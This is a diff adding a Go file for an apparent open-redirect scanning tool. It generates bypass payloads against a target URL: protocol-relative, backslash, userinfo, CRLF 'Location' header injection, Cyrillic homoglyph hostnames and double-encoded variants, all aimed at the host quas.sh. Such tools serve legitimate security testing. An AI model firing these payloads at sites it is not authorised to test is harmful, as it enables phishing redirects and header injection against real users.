@@ -0,0 +1,183 @@
+package main
+
+import (
+	"bufio"
+	"fmt"
+	"net/url"
+	"os"
+	"strings"
+)
+
+// defaultPayloadTemplates covers the classic open-redirect bypass families.
+// {host}, {scheme}, {tld}, {registered_domain} and {path} are expanded
+// against the target URL before the payload is tried.
+var defaultPayloadTemplates = []string{
+	"protocol-relative\t//quas.sh/",
+	"backslash\t/\\quas.sh",
+	"userinfo\t{scheme}://{host}@quas.sh/",
+	"subdomain\t{scheme}://{host}.quas.sh/",
+	"prefix\t{scheme}://quas.sh?{host}",
+	"crlf\t{scheme}://quas.sh/%0d%0aLocation:%20http://quas.sh/",
+	"idn\t{scheme}://{host_homoglyph}/",
+	"double-encode\thttps%253A%252F%252Fquas.sh%252F",
+	"bare\t{scheme}://quas.sh/",
+	"no-slash\t{scheme}:/quas.sh",
+}
+
+// PayloadTemplate is one line of the template file: a template string tagged
+// with the bypass families it belongs to.
+type PayloadTemplate struct {
+	Template string
+	Tags     []string
+}
+
+// GeneratedPayload is a PayloadTemplate expanded against a specific target.
+type GeneratedPayload struct {
+	Value    string
+	Template string
+	Tags     []string
+}
+
+// PayloadGenerator expands a set of tagged templates against a target URL.
+type PayloadGenerator struct {
+	templates []PayloadTemplate
+}
+
+// NewPayloadGenerator builds a generator from the built-in default templates.
+func NewPayloadGenerator() *PayloadGenerator {
+	pg := &PayloadGenerator{}
+	for _, line := range defaultPayloadTemplates {
+		if t, ok := parsePayloadLine(line); ok {
+			pg.templates = append(pg.templates, t)
+		}
+	}
+	return pg
+}
+
+// LoadPayloadGenerator builds a generator from a template file, one
+// "tag1,tag2<TAB>template" per line. Blank lines and lines starting with
+// '#' are ignored.
+func LoadPayloadGenerator(path string) (*PayloadGenerator, error) {
+	f, err := os.Open(path)
+	if err != nil {
+		return nil, err
+	}
+	defer f.Close()
+
+	pg := &PayloadGenerator{}
+	sc := bufio.NewScanner(f)
+	for sc.Scan() {
+		line := sc.Text()
+		if strings.TrimSpace(line) == "" || strings.HasPrefix(strings.TrimSpace(line), "#") {
+			continue
+		}
+		t, ok := parsePayloadLine(line)
+		if !ok {
+			return nil, fmt.Errorf("payloads: malformed template line %q", line)
+		}
+		pg.templates = append(pg.templates, t)
+	}
+	if err := sc.Err(); err != nil {
+		return nil, err
+	}
+
+	return pg, nil
+}
+
+func parsePayloadLine(line string) (PayloadTemplate, bool) {
+	parts := strings.SplitN(line, "\t", 2)
+	if len(parts) != 2 {
+		return PayloadTemplate{}, false
+	}
+	tags := strings.Split(parts[0], ",")
+	for i := range tags {
+		tags[i] = strings.TrimSpace(tags[i])
+	}
+	return PayloadTemplate{Template: parts[1], Tags: tags}, true
+}
+
+// Generate expands every template against target, optionally restricted to
+// templates carrying at least one of the only tags.
+func (pg *PayloadGenerator) Generate(target *url.URL, only []string) []GeneratedPayload {
+	out := make([]GeneratedPayload, 0, len(pg.templates))
+	for _, t := range pg.templates {
+		if len(only) > 0 && !hasAnyTag(t.Tags, only) {
+			continue
+		}
+		out = append(out, GeneratedPayload{
+			Value:    expandPayloadTemplate(t.Template, target),
+			Template: t.Template,
+			Tags:     t.Tags,
+		})
+	}
+	return out
+}
+
+func hasAnyTag(tags, only []string) bool {
+	for _, o := range only {
+		for _, t := range tags {
+			if t == o {
+				return true
+			}
+		}
+	}
+	return false
+}
+
+func expandPayloadTemplate(template string, target *url.URL) string {
+	r := strings.NewReplacer(
+		"{host}", target.Hostname(),
+		"{scheme}", target.Scheme,
+		"{tld}", tld(target.Hostname()),
+		"{registered_domain}", registeredDomain(target.Hostname()),
+		"{path}", target.Path,
+		"{host_homoglyph}", homoglyphHost(target.Hostname()),
+	)
+	return r.Replace(template)
+}
+
+// homoglyphHost substitutes a handful of ASCII letters in host with
+// visually indistinguishable Cyrillic lookalikes, for testing validators
+// that compare hostnames by eye (or by naive substring match) rather than
+// by Unicode-normalized/punycode comparison.
+func homoglyphHost(host string) string {
+	r := strings.NewReplacer(
+		"a", "а", // U+0430 CYRILLIC SMALL LETTER A
+		"e", "е", // U+0435 CYRILLIC SMALL LETTER IE
+		"o", "о", // U+043E CYRILLIC SMALL LETTER O
+		"p", "р", // U+0440 CYRILLIC SMALL LETTER ER
+		"c", "с", // U+0441 CYRILLIC SMALL LETTER ES
+		"x", "х", // U+0445 CYRILLIC SMALL LETTER HA
+		"i", "і", // U+0456 CYRILLIC SMALL LETTER BYELORUSSIAN-UKRAINIAN I
+	)
+	return r.Replace(host)
+}
+
+// tld returns the last label of host. It is a simplification that doesn't
+// consult a public suffix list, which is good enough for bypass payloads.
+func tld(host string) string {
+	labels := strings.Split(host, ".")
+	return labels[len(labels)-1]
+}
+
+// registeredDomain returns the last two labels of host (e.g. "example.com"
+// out of "www.example.com"), the same simplification as tld.
+func registeredDomain(host string) string {
+	labels := strings.Split(host, ".")
+	if len(labels) < 2 {
+		return host
+	}
+	return strings.Join(labels[len(labels)-2:], ".")
+}
+
+// parseOnly splits a comma-separated --only flag value into tags.
+func parseOnly(only string) []string {
+	if only == "" {
+		return nil
+	}
+	tags := strings.Split(only, ",")
+	for i := range tags {
+		tags[i] = strings.TrimSpace(tags[i])
+	}
+	return tags
+}